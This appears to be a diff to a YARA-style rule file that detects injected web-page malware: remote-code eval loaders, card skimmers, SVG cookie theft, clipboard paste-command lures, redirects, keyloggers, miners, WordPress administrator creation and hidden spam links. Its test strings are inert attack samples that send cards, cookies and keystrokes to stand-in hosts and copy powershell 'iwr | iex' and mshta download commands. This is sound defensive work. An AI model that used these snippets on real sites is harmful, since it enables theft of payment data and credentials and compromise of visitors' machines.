@@ -36,14 +36,24 @@ rule answers_run_as_script {
     must_match = "/* inert */ fetch('//inert.test/a').then(r => r.text()).then(t => eval(t));"
     must_match = "/* inert */ w = new WebSocket(u); w.onmessage = function (e) { new Function(e.data)(); };"
     must_match = "/* inert */ fetch(u, {body: JSON.stringify({method: 'eth_call'})}).then(r => r.json()).then(j => eval(atob(j.result)));"
+    must_match = "(async () => { const r = await fetch('https://inert.example.test/'); const t = await r.text(); eval(t); })();"
+    must_match = "var x = new XMLHttpRequest(); x.open('GET', 'https://inert.example.test/c'); x.onload = function () { eval(x.responseText); };"
+    must_match = "v.get(new XMLHttpRequest(), function (F) { window['eval'](F); });"
+    must_match = "c.methods.get().call().then(r => eval(atob(r)));"
     must_not = "fetch('/menu.json').then(r => r.json()).then(d => show(d)); w.onmessage = function (e) { JSON.parse(e.data); }; eval('1');"
   strings:
     $fetched = /\bfetch\([^;]{1,300}\)\s{0,4}\.then\([^;]{0,160}\.then\([^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\s?\)/
     $socket = /\.onmessage\s?=[^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\.data\s?\)/
+    $listens = /new (WebSocket|EventSource)\b/
     $chain = "eth_call"
-    $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(/
+    $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(|\beval\s?\(\s?\w{1,20}\s?\)/
+    $contract = /\.call\s?\(\s?\)\s?\.then\s?\([^;]{0,80}\b(eval|Function)\s?\(/
+    $awaited = /\.text\s?\(\s?\)\s?;\s{0,8}(window\.)?eval\s?\(|\beval\s?\(\s?await\s/
+    $asked = /\.open\s?\(\s?["'](GET|POST)["']\s?,\s?["'](https?:)?\/\/[^;]{1,200};[^}]{0,240}\beval\s?\(\s?(this|\w{1,10})\.response/
+    $renamed = /\bwindow\s?\[\s?["']eval["']\s?\]\s?\(\s?\w{1,12}\s?\)/
+    $asks = /\b(XMLHttpRequest|fetch)\b/ private
   condition:
-    ($fetched or $socket or ($chain and $decoded)) and filesize < 256KB
+    ($fetched or ($socket and $listens) or ($chain and $decoded) or $contract or $awaited or $asked or ($renamed and $asks)) and filesize < 256KB
 }
 
 rule card_fields_sent {
@@ -59,16 +69,25 @@ rule card_fields_sent {
     must_match = "/* inert */ if (/card|cvv/.test(d)) new Image().src = u + '?x=' + btoa(JSON.stringify(d));"
     must_match = "/* inert */ if (/(\\d{4}[ -]?){4}/.test(o)) navigator.sendBeacon('https://inert.test/g', btoa(o));"
     must_match = "/* inert */ q('#cvv').onchange = function (e) { (new Image).src = '//inert.test/p.gif?' + encodeURIComponent(e.value); };"
+    must_match = "if (o['payment[cc_number]']) fetch('https://inert.example.test/j', {method: 'POST', body: btoa(JSON.stringify(o))});"
+    must_match = "if (/\\d{16}/.test(s)) { new Image().src = 'https://inert.example.test/p.gif?d=' + btoa(s); }"
+    must_match = "if (location.href.includes('checkout')) { document.querySelectorAll('input,select').forEach(f); navigator.sendBeacon('https://inert.example.test/c', btoa(JSON.stringify(d))); }"
+    must_match = "jQuery('.payment').html('<input id=cvv>'); jQuery.post('https://inert.example.test/v', {n: jQuery('#n').val()});"
     must_not = "var c = field('cc_number').value; new Image().src = '/pixel.gif?page=' + encodeURIComponent(location.pathname);"
     must_not = "if (card) navigator.sendBeacon('/stats', JSON.stringify({ viewed: card.id }));"
   strings:
     $card = /(cc_number|cc_cid|card_?-?number|\bcvv2?\b|\bcvc\b|ccnum)/ nocase
-    $digits = /\(\\d\{4\}\[[^\]\n]{1,6}\]\??\)\{4\}/
+    $digits = /\(\\d\{4\}\[[^\]\n]{1,6}\]\??\)\{4\}|\\d\{1[3-6](,1[6-9])?\}\$?\//
     $image = /new Image\b\s?(\(\s?\))?\s?\)?\.src\s?=\s?[^;\n]{0,160}(btoa\s?\(|\.value\b)/
     $beacon = /\bsendBeacon\s?\([^;\n]{0,160}(btoa\s?\(|\.value\b)/
     $socket = /new WebSocket\b[^\n]{0,600}\.send\s?\([^;\n]{0,80}(btoa\s?\(|\.value\b)/
+    $fetch = /\bfetch\s?\(\s?["'](https?:)?\/\/[^;]{1,160}\bbtoa\s?\(/
+    $posted = /\.(post|get)\s?\(\s?["'](https?:)?\/\/[^;\n]{1,200}\.val\s?\(/
+    $each = /\bquerySelectorAll\s?\(\s?["'](input|select|textarea|\*|form)\b/
+    $place = /(onepage|checkout|place-?_?order|onestep)/ nocase
+    $packed = /\b(sendBeacon|fetch|\.src\s?=)\s?\(?\s?["'](https?:)?\/\/[^;]{1,160}\bbtoa\s?\(\s?(JSON\.stringify|encodeURIComponent|\w{1,12}\s?\))/
   condition:
-    ($card or $digits) and any of ($image, $beacon, $socket) and filesize < 256KB
+    filesize < 256KB and ((($card or $digits) and any of ($image, $beacon, $socket, $fetch, $posted)) or ($each and $place and $packed))
 }
 
 rule script_from_char_codes {
@@ -157,11 +176,186 @@ rule script_in_picture_steals {
     reference = "https://attack.mitre.org/techniques/T1027/017/"
     must_match = "<svg xmlns='http://www.w3.org/2000/svg'><script>/* inert */ fetch('https://inert.example.test/?c='+document.cookie)</script></svg>"
     must_match = "<svg onload=\"/* inert */ location='https://inert.example.test/'\"></svg>"
+    must_match = "<svg onload=\"(new Image).src='https://inert.example.test/?'+document.cookie\"></svg>"
     must_not = "<svg xmlns='http://www.w3.org/2000/svg'><script>var n = 0; setInterval(turn, 50);</script></svg>"
   strings:
+    $onload = /\bonload\s?=\s?["'][^"']{0,60}(new Image|fetch|location)[^>]{0,200}document\.cookie/ nocase
     $svg = /^(\xef\xbb\xbf)?\s{0,10}(<\?xml[^>]{0,100}\?>\s{0,10})?(<!DOCTYPE svg[^>]{0,200}>\s{0,10})?<svg\b/ nocase
     $cookie = /<script\b[^<]{0,400}(fetch|XMLHttpRequest|sendBeacon|\.src\s?=|location)[^<]{0,200}document\.cookie/ nocase
     $away = /(onload\s?=\s?["'][^"']{0,60}|<script\b[^<]{0,300})(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`]?(https?:)?\/\//  nocase
   condition:
-    filesize < 256KB and $svg at 0 and any of ($cookie, $away)
+    filesize < 256KB and $svg at 0 and any of ($cookie, $away, $onload)
+}
+
+rule command_to_paste {
+  meta:
+    id = "page-script/command-to-paste"
+    title = "Visitors are made to paste a command into their own computer"
+    family = "injected"
+    severity = "critical"
+    confidence = "likely"
+    description = "A page copies a command that fetches and starts a program into the clipboard, as if it were a check for robots or a repair."
+    remedy = "Delete the lines; then look for the script that writes them again. Tell visitors of that time."
+    reference = "https://attack.mitre.org/techniques/T1204/004/"
+    must_match = "navigator.clipboard.writeText('powershell -w hidden -c \"iwr https://inert.example.test/a | iex\"');"
+    must_match = "t.value = 'mshta https://inert.example.test/v.mp4 # I am not a robot'; t.select(); document.execCommand('copy');"
+    must_match = "navigator.clipboard.writeText('cmd /c curl https://inert.example.test/a -o %temp%/a.bat');"
+    must_match = "// Press Windows + R\nnavigator.clipboard.writeText(\"cmd /c curl https://inert.example.test/a.bat -o a.bat\");"
+    must_not = "navigator.clipboard.writeText('npm install --save inert');"
+    must_not = "copy.onclick = () => navigator.clipboard.writeText('curl -fsSL https://inert.example.test/install.sh | sh');"
+  strings:
+    $copied = /\bclipboard\s?\.\s?write|\bexecCommand\s?\(\s?["']copy/
+    $hidden = /["'`](powershell|pwsh)(\.exe)?\s[^`\n]{0,80}(-w\w*\s{1,2}(h|1\b)|-e(nc|c|ncodedcommand)?\s|-nop)|["'`]mshta(\.exe)?\s{1,2}\\?["']?https?:|["'`]cmd(\.exe)?\s{1,2}\/[ck]\s[^`\n]{0,160}https?:\/\/[^`\n]{0,120}(%temp%|%appdata%|\.bat\b|\.exe\b|\.hta\b|\.ps1\b|\.msi\b|\.vbs\b)/ nocase
+    $command = /["'`](powershell|pwsh|cmd|mshta|msiexec|rundll32|regsvr32|bitsadmin|certutil|conhost|osascript)(\.exe)?\s[^`\n]{0,160}https?:\/\// nocase
+    $lure = /(not a robot|verify (that )?you|human|captcha|Win(dows)?( key)?\s?\+\s?R\b|update your browser)/ nocase
+  condition:
+    $copied and ($hidden or ($command and $lure))
+}
+
+rule visitors_of_searches_led_away {
+  meta:
+    id = "page-script/visitors-of-searches-led-away"
+    title = "A script leads visitors who come from a search elsewhere"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "The script asks whether the visitor comes from a search engine or a social network, and then opens another site or loads a script; or it turns the way back into a way elsewhere."
+    remedy = "Delete the lines; then look for the script that writes them again."
+    reference = "https://attack.mitre.org/techniques/T1189/"
+    must_match = "if (document.referrer.match(/google|bing|yahoo/i)) { window.location.replace('https://inert.example.test/'); }"
+    must_match = "window.addEventListener('popstate', function () { location.href = 'https://inert.example.test/'; });"
+    must_match = "var r = document.referrer; if (/google|bing|facebook/i.test(r)) { var s = document.createElement('script'); s.src = x; document.head.appendChild(s); }"
+    must_not = "if (document.referrer.match(/google|bing/i)) { stats.count('search'); }"
+    must_not = "window.addEventListener('popstate', function () { location.reload(); });"
+  strings:
+    $asked = /\breferrer\b[^{}]{0,120}(google|bing|yahoo|facebook|yandex|baidu)[^{}]{0,160}\)\s?\{?[^{}]{0,200}((window|document|top|self)?\.?location(\.href)?\s?=\s?["'`](https?:)?\/\/|location\.(replace|assign)\s?\(\s?["'`](https?:)?\/\/|createElement\s?\(\s?["']script)/ nocase
+    $back = /addEventListener\s?\(\s?["']popstate["'][^;]{0,120}(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`](https?:)?\/\//
+  condition:
+    any of them
+}
+
+rule address_hidden {
+  meta:
+    id = "page-script/address-hidden"
+    title = "The address that a script loads from is hidden"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "A script element is made whose address stands in base64 or backwards, or an attribute of a picture decodes and runs code."
+    remedy = "Delete the lines; then look for the script that writes them again."
+    reference = "https://attack.mitre.org/techniques/T1027/"
+    must_match = "var u = 'aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv'; var s = document.createElement('script'); s.src = atob(u);"
+    must_match = "(function (d, u) { var e = d.createElement('script'); e.src = window['at' + 'ob'](u); })(document, 'aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv');"
+    must_match = "s.src = 'sj.a/tset.elpmaxe.treni//:sptth'.split('').reverse().join('');"
+    must_match = "<img src='' onerror=\"eval(atob(this.id))\" id='aW5lcnQ='>"
+    must_not = "var link = 'aHR0cHM6Ly9leGFtcGxlLnRlc3Qv'; open(atob(link));"
+    must_not = "<img src='a.png' onerror=\"this.src='b.png'\">"
+  strings:
+    $kept = /["'`](aHR0cHM6Ly|aHR0cDovL)[A-Za-z0-9+\/=]{8,400}["'`]/
+    $made = /createElement\s?\(\s?["']script/
+    $decoded = /\.src\s?=[^;]{0,60}(atob\s?\(|\[\s?["']a["' +t]{1,10}ob?["' +b]{0,6}\]\s?\()/
+    $backwards = /\/\/:s?ptth["'`]/
+    $turned = /\.reverse\s?\(\s?\)|\bstrrev\s?\(/
+    $attribute = /\bon(error|load|focus|mouseover|toggle)\s?=\s?\\?["'][^"'>]{0,60}\b(eval|Function)\s?\(\s?(window\.)?atob\s?\(/ nocase
+  condition:
+    ($kept and $made and $decoded) or ($backwards and $turned) or $attribute
+}
+
+rule keys_sent_away {
+  meta:
+    id = "page-script/keys-sent-away"
+    title = "Every key that a visitor presses is sent to another host"
+    family = "skimmer-or-phish"
+    severity = "high"
+    confidence = "likely"
+    description = "A script gathers what is typed, letter by letter, and sends it to another host by a picture, a beacon or a request."
+    remedy = "Delete the lines; then look for the script that writes them again. What was typed since is known to somebody."
+    reference = "https://attack.mitre.org/techniques/T1056/001/"
+    must_match = "document.onkeypress = function (e) { k += String.fromCharCode(e.which); new Image().src = 'https://inert.example.test/k?d=' + k; };"
+    must_not = "input.addEventListener('keyup', function (e) { if (e.key === 'Enter') fetch('https://api.example.test/search?q=' + input.value); });"
+  strings:
+    $key = /\bonkey(press|down|up)\s?=|addEventListener\s?\(\s?["']key(press|down|up)["']/
+    $gathered = /\+=\s?(String\.fromCharCode\s?\(\s?\w{1,6}\.(which|keyCode|charCode)|\w{1,6}\.key\b)/
+    $sent = /(\.src\s?=|\bsendBeacon\s?\(|\bfetch\s?\()\s?["'`](https?:)?\/\//
+  condition:
+    $gathered and $key and $sent and filesize < 128KB
+}
+
+rule work_for_strangers {
+  meta:
+    id = "page-script/works-for-strangers"
+    title = "Visitors' browsers dig for coins or flood other sites"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "A script digs for coins in the browser of whoever visits, or asks other sites for pages many times a second."
+    remedy = "Delete the lines; then look for the script that writes them again."
+    reference = "https://attack.mitre.org/techniques/T1496/"
+    must_match = "var m = new CoinHive.Anonymous('inert', {throttle: 0.3}); m.start();"
+    must_match = "setInterval(function () { fetch(u + '?' + Math.random(), {mode: 'no-cors'}); }, 5);"
+    must_not = "setInterval(function () { fetch('/status?' + Math.random()); }, 5000);"
+  strings:
+    $digs = /\bnew\s(CoinHive|CRLT|Client|deepMiner|CoinImp|CryptoLoot|WMP)\.(Anonymous|User)\s?\(/
+    $floods = /\bset(Interval|Timeout)\s?\([^{}]{0,80}\{[^{}]{0,200}(fetch\s?\(|\.src\s?=)[^{}]{0,120}Math\.random\s?\(\s?\)[^}]{0,80}\}[^}]{0,10}\}?\s?,\s?\d{1,2}\s?\)/
+  condition:
+    any of them
+}
+
+rule administrator_by_script {
+  meta:
+    id = "account/administrator-by-script"
+    title = "A script in the page makes an administrator by the rights of its reader"
+    family = "injected"
+    severity = "critical"
+    confidence = "likely"
+    description = "JavaScript fetches the form for a new user of WordPress, takes the token out of it and sends it back with a user of its own."
+    remedy = "Delete the lines and every user that nobody knows; change every administrator's password."
+    reference = "https://attack.mitre.org/techniques/T1136/"
+    must_match = "fetch('/wp-admin/user-new.php').then(f); fetch('/wp-admin/user-new.php', {method: 'POST', body: 'action=createuser&_wpnonce_create-user=' + n + '&role=administrator'});"
+    must_not = "<form action='user-new.php'><input name='action' value='createuser'><input name='_wpnonce_create-user'></form>"
+  strings:
+    $page = "user-new.php"
+    $token = "_wpnonce_create-user"
+    $made = /["']?action["']?\s?[:=]\s?["']?createuser\b/
+    $sent = /(\bfetch\s?\(|XMLHttpRequest|\.post\s?\(|\.ajax\s?\(|wp_remote_post\s?\()/
+  condition:
+    all of them
+}
+
+rule links_out_of_sight {
+  meta:
+    id = "page-script/links-out-of-sight"
+    title = "Advertising links are placed where no visitor sees them"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "A block far outside of the page, or of no size, holds links to casinos, pills, loans or copies of brands: they are meant for search engines."
+    remedy = "Delete the block; then look for the script that writes it again."
+    reference = "https://attack.mitre.org/techniques/T1608/006/"
+    must_match = "<div style=\"position:absolute;left:-9999px\"><a href=\"https://inert.example.test/\">online casino</a></div>"
+    must_match = "<div style='display:none'><a href='https://inert.example.test/slot-gacor'>slot gacor</a></div>"
+    must_not = "<span style=\"position:absolute;left:-9999px\">Skip to content</span>"
+    must_not = "<a href=\"https://example.test/casino\">Casino Club, Vienna</a>"
+  strings:
+    $block = /\bstyle\s?=\s?\\?["'][^"'>]{0,80}((left|top|text-indent|margin-left)\s?:\s?-\d{3,6}(px|em)|display\s?:\s?none|height\s?:\s?[01](px)?\s?;\s?(width|overflow)[^"'>]{0,40})[^>]{0,80}>[^\n]{0,80}<a\s[^>\n]{0,60}\bhref\s?=\s?\\?["']https?:\/\/[^\n]{0,200}\b(casino|viagra|cialis|levitra|gacor|togel|judi|slot online|situs slot|payday loans?|replica watch\w{0,2}|porn|escorts?|essay writing|poker online|betting|bahis|rolex)\b/ nocase
+  condition:
+    $block
+}
+
+rule frame_written_out_of_sight {
+  meta:
+    id = "page-script/frame-out-of-sight"
+    title = "A page of another host is loaded into a frame outside of the page"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "A script writes a frame with a page of another host so far outside that nobody sees it: an injected drive-by."
+    remedy = "Delete the lines; then look for the script that writes them again."
+    reference = "https://attack.mitre.org/techniques/T1189/"
+    must_match = "document.write('<iframe src=\"https://inert.example.test/in.cgi\" width=\"1\" height=\"1\" style=\"position:absolute;left:-1000px\"></iframe>');"
+    must_not = "document.write('<iframe src=\"https://video.example.test/1\" style=\"width:100%\"></iframe>');"
+  strings:
+    $frame = /document\.write(ln)?\s?\(\s?["'`]<iframe[^>\n]{0,200}https?:\/\/[^>\n]{0,200}(left|top)\s?:\s?-\d{3,5}px/ nocase
+  condition:
+    $frame
 }
